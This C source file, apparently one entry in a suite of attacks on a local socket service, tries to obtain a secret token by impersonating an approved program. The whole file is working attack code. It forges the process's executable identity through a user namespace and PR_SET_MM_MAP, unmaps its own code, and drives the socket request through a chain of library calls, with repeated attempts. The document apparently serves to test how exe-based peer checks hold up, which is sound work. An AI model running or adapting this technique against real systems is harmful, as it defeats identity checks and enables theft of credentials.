/* Row 10: makes the kernel call this process by the approved program's name. A child in a user namespace of its own, where
 * it has every capability, shares this memory and sets its "exe" to the approved file (PR_SET_MM_MAP). The kernel only
 * does that once nothing of the old executable is mapped, and the verifier wants the approved file among the executable
 * mappings and nothing else: so the file is mapped, this program is unmapped, and only the C library's code runs.
 *
 *   attack-forged-exe SOCKET TRIES APPROVED
 */
#include "attack-chain.h"
#include <linux/prctl.h>

struct child { struct chain *chain; };

static int forge(void *argument)
{
    chain_run(((struct child *)argument)->chain);
}

static void layout(struct prctl_mm_map *map)
{
    unsigned long field[53] = { 0 };
    char text[4096];
    int fd = open("/proc/self/stat", O_RDONLY);
    ssize_t count = read(fd, text, sizeof text - 1);
    close(fd);
    if (count <= 0)
        die("stat");
    text[count] = 0;
    char *at = strrchr(text, ')') + 2;
    for (int i = 3; i < 53 && at; i++) {
        field[i] = strtoul(at, NULL, 10);
        at = strchr(at, ' ');
        at = at ? at + 1 : NULL;
    }
    *map = (struct prctl_mm_map) {
        .start_code = field[26], .end_code = field[27], .start_stack = field[28], .start_data = field[45], .end_data = field[46],
        .start_brk = field[47], .brk = (unsigned long)sbrk(0), .arg_start = field[48], .arg_end = field[49],
        .env_start = field[50], .env_end = field[51], .exe_fd = (unsigned)-1,
    };
}

static void attempt(const char *path, const char *approved)
{
    char line[1024], own[4096];
    static struct sockaddr_un address;
    int inside[2], go[2], forged[2];
    ssize_t length = readlink("/proc/self/exe", own, sizeof own - 1);
    if (length <= 0 || pipe(inside) != 0 || pipe(go) != 0 || pipe(forged) != 0)
        die("pipe");
    own[length] = 0;
    struct chain *mine = chain_new(), *childs = chain_new();
    char *room = mmap(NULL, 1 << 16, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    struct prctl_mm_map *map = (struct prctl_mm_map *)room;
    struct child *child = (struct child *)(room + 1024);
    char *request = room + 2048, *format = room + 3072, *place = room + 3200;
    address = address_of(path);
    memcpy(place, &address, sizeof address);
    strcpy(request, READ_TOKEN);
    strcpy(format, "heard %s\n");
    layout(map);
    int file = open(approved, O_RDONLY);
    if (file < 0 || mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, file, 0) == MAP_FAILED)
        die("approved");
    map->exe_fd = (unsigned)file;
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);

    CHAIN(childs, write, 3, (long)inside[1], request, 1L);
    CHAIN(childs, read, 3, (long)go[0], childs->said, 1L);
    CHAIN(childs, prctl, 5, (long)PR_SET_MM, (long)PR_SET_MM_MAP, map, (long)sizeof *map, 0L);
    CHAIN(childs, write, 3, (long)forged[1], request, 1L);
    CHAIN(childs, _exit, 1, 0L);

    /* The pages of this program, one call for the whole range: nothing else lies between them. */
    uintptr_t low = 0, high = 0, from, to;
    FILE *maps = fopen("/proc/self/maps", "re");
    while (maps && fgets(line, sizeof line, maps))
        if (sscanf(line, "%lx-%lx", &from, &to) == 2 && strstr(line, own)) {
            low = low ? low : from;
            high = to;
        }
    if (maps == NULL || low == 0)
        die("maps");
    CHAIN(mine, munmap, 2, low, high - low);
    CHAIN(mine, write, 3, (long)go[1], request, 1L);
    CHAIN(mine, read, 3, (long)forged[0], mine->said, 1L);
    CHAIN(mine, connect, 3, (long)fd, place, (long)sizeof address);
    CHAIN(mine, write, 3, (long)fd, request, (long)strlen(request));
    CHAIN(mine, read, 3, (long)fd, mine->said, (long)sizeof mine->said - 1);
    CHAIN(mine, dprintf, 3, 1L, format, mine->said);
    CHAIN(mine, _exit, 1, 0L);

    child->chain = childs;
    alarm(20);
    char c;
    if (clone(forge, room + (1 << 16), CLONE_VM | CLONE_NEWUSER | SIGCHLD, child) < 0 || read(inside[0], &c, 1) != 1)
        die("clone");
    chain_run(mine);
}

int main(int count, char **arguments)
{
    if (count < 4)
        return 2;
    prctl(PR_SET_CHILD_SUBREAPER, 1);
    for (int tries = atoi(arguments[2]); tries > 0; tries--) {
        if (fork() == 0)
            attempt(arguments[1], arguments[3]);
        while (waitpid(-1, NULL, __WALL) > 0)
            ;
    }
    return 0;
}
